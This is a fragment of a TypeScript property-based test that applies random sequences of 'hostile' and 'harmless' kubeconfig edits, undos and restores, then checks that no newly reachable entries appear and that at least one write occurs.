  const steps = [...hostile.map(([, edits]) => edits), ...harmless.map(([, edits]) => edits)]
  const before = reached()
  let writes = 0
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.oneof(fc.nat(steps.length - 1), fc.constantFrom('undo', 'restore', 'reapply')), {
        minLength: 1,
        maxLength: 6,
      }),
      async (order) => {
        await writeFile(file, text)
        await services.kubeconfig.load()
        for (const step of order) {
          const [last] = await services.editing.historyView.list()
          if (typeof step === 'number') {
            const done = await apply(...(steps[step]?.() ?? []))
            if (done.ok && done.value.kind === 'written') writes++
          } else if (last !== undefined && (step === 'undo' || step === 'restore' || step === 'reapply'))
            await back(last.id, step)
          await services.kubeconfig.load()
          const now = reached()
          expect([...now].filter((one) => !before.has(one))).toEqual([])
        }
      },
    ),
    { numRuns: process.env.EKSCOPE_FULL === '1' ? 300 : 6 },
  )
  expect(writes).toBeGreaterThan(0)
})
